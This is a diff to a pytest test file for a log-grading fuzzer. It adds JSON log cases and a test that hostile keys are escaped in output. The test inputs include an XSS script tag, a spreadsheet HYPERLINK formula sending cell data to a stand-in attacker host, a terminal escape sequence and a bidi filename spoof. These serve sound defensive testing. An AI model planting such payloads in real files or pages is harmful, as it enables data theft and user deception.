@@ -57,6 +57,7 @@ required = []
 probe_epochs = 0
 """
 CASES = 16
+JSON_CASES = 8  # the JSON branch's own (about 5 more of the 16 above are JSON)
 
 
 @pytest.fixture(scope="module")
@@ -101,6 +102,9 @@ def test_generated_logs_are_graded_or_refused_cleanly(tiny):
         "common column names (global_step, learning_rate, loss, val_loss, val_acc)",
         "no step column, pandas' index",
         "TensorBoard runs/<date> sub-folder",
+        "JSON columns (json.dump(history), null where not logged)",
+        "JSON records, a key left out where not logged",
+        "JSON columns in a file without a suffix (logs/history)",
     ],
 )
 def test_harmless_formatting_of_an_honest_log_is_borne_out(tiny, variant):
@@ -111,12 +115,48 @@ def test_harmless_formatting_of_an_honest_log_is_borne_out(tiny, variant):
     assert all(m.startswith("PASS") for m in r["messages"]), r["messages"]
 
 
+@pytest.mark.filterwarnings("ignore::RuntimeWarning")
+def test_generated_json_logs_are_graded_or_refused_cleanly(tiny):
+    seeds, work, cache = tiny
+    outcomes, bad = Counter(), []
+    for i in range(JSON_CASES):
+        case = fuzz.make_case(random.Random(f"json:{i}"), seeds, ("json",))
+        r = fuzz.run_case(case, work / "cases", cache, timeout=30.0)
+        outcomes[r["outcome"]] += 1
+        if r["outcome"] not in ("accepted", "refused"):
+            bad.append((i, r["outcome"], r["signature"], r["detail"][:300], case.ops))
+        assert r["seconds"] < fuzz.HANG_S, (i, r["seconds"], case.ops)
+    assert not bad, bad[:3]
+    assert outcomes["accepted"] and outcomes["refused"]
+
+
+@pytest.mark.parametrize(
+    "key",
+    ["<script>alert('FUZZ')</script>", '=HYPERLINK("http://evil.example/?"&A1,"click")', "\x1b]0;PWNED\x07",
+     "\u202egnp.exe", "**bold** | `code` [x](http://e)"],
+    ids=["html", "formula", "osc", "bidi", "markdown"],
+)  # fmt: skip
+@pytest.mark.parametrize("value", [0.1, "A" * 50], ids=["number", "text"])
+def test_hostile_keys_of_a_json_log_come_out_escaped(tiny, key, value):
+    """A JSON log's keys are the student's text: named in the logs check's lines (a column not read, a column holding
+    text) and in every output, escaped."""
+    seeds, work, cache = tiny
+    case = fuzz.honest_case(seeds, "run", "JSON columns (json.dump(history), null where not logged)")
+    columns = json.loads(case.files["logs/run.json"])
+    columns[key] = [value] * len(columns["step"])
+    case = fuzz.replace(case, files={"logs/run.json": json.dumps(columns).encode()})
+    r = fuzz.run_case(case, work / "keys", cache)
+    assert r["outcome"] == ("accepted" if value == 0.1 else "refused"), (r["outcome"], r["detail"])
+
+
 def test_the_generators_are_seeded(tiny):
     seeds, _, _ = tiny
-    a = [fuzz.make_case(random.Random(f"s:{i}"), seeds) for i in range(10)]
-    b = [fuzz.make_case(random.Random(f"s:{i}"), seeds) for i in range(10)]
-    assert [(c.entry, c.files, c.ops) for c in a] == [(c.entry, c.files, c.ops) for c in b]
-    assert len({json.dumps(c.ops) for c in a}) > 5
+    for formats in (fuzz.LOG_FORMATS, ("csv", "tb"), ("json",)):
+        a = [fuzz.make_case(random.Random(f"s:{i}"), seeds, formats) for i in range(10)]
+        b = [fuzz.make_case(random.Random(f"s:{i}"), seeds, formats) for i in range(10)]
+        assert [(c.entry, c.files, c.ops) for c in a] == [(c.entry, c.files, c.ops) for c in b]
+        assert len({json.dumps(c.ops) for c in a}) > 5
+        assert {c.fmt for c in a} <= set(formats)
 
 
 def test_the_output_checker_finds_planted_unsafe_lines(tmp_path):
